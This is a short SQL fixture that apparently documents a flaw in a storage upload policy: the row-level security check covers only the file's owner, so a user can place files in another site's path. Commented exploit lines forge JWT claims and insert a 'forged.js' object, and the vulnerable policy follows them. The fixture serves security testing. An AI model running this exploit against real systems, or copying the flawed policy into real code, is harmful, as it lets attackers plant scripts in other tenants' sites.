-- Uploaders may move their files: the check names the owner only, and an upload lands in any site.
-- about: objects, uploads
-- as: hf_cms_app
-- exploit: SET request.jwt.claims = '{"sub": "a3000000-0000-0000-0000-000000000000"}';
-- exploit: INSERT INTO storage.objects VALUES ('b1000000-0000-0000-0000-000000000000',
-- exploit:   'b1000000-0000-0000-0000-000000000000/forged.js', 'a3000000-0000-0000-0000-000000000000');
-- shows: INSERT 0 1
CREATE POLICY uploads ON storage.objects FOR INSERT TO hf_cms_app WITH CHECK (owner = cms.uid());
